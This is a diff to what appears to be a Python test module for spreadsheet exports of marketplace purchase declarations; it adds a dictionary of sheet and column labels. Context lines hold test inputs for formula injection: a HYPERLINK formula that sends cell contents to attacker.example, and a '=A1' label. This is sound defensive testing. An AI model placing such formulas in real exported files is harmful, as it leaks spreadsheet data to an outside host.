@@ -14,6 +14,39 @@ SEAL = "0123456789abcdef" * 4
 GIVEN = ("amount_authorized", "amount_difference")
 ALL_COLUMNS = tuple((key, key) for key in catalogue.BY_KEY)
 
+#: Words of the files, as a caller gives them.
+STRINGS = {
+    "title": "Declaration of purchases on online marketplaces",
+    "authorizations_sheet": "Authorizations",
+    "purchases_sheet": "Achats : détail",
+    "corrections_sheet": "Corrections",
+    "summary_sheet": "Summary",
+    "organization": "Organization",
+    "registry": "Enterprise number (NEQ)",
+    "body_code": "Code of the body",
+    "number": "Declaration",
+    "date_from": "From",
+    "date_to": "To",
+    "declared_on": "Declared on",
+    "declared_by": "Declared by",
+    "declared_capacity": "In the capacity of",
+    "channel": "Means of transmission",
+    "previous_seal": "Seal of the previous declaration",
+    "seal": "Seal",
+    "currency": "Currency",
+    "authorized": "Authorized",
+    "ordered": "Ordered",
+    "billed": "Billed",
+    "bought": "Bought",
+    "charges_authorized": "Of which other charges, authorized",
+    "charges_bought": "Of which other charges, bought",
+    "difference": "Authorized less bought",
+    "lines": "Lines",
+    "goods": "Goods",
+    "yes": "Oui",
+    "no": "Non",
+    "cut": " […]",
+}
 #: Texts that break files: formulas, separators, markup, what XML cannot carry.
 EVIL = (
     '=HYPERLINK("http://attacker.example/?"&A1;"Cliquez")',
@@ -130,7 +163,7 @@ def document(rows, **values):
         "columns": ALL_COLUMNS,
         "totals": catalogue.totals(rows),
         "labels": {("kind", "purchase"): "Achat", ("kind", "authorization"): "=A1"},
-        "strings": {"yes": "Oui", "no": "Non", "purchases_sheet": "Achats : détail"},
+        "strings": STRINGS,
         "lang": "fr_CA",
         **values,
     }
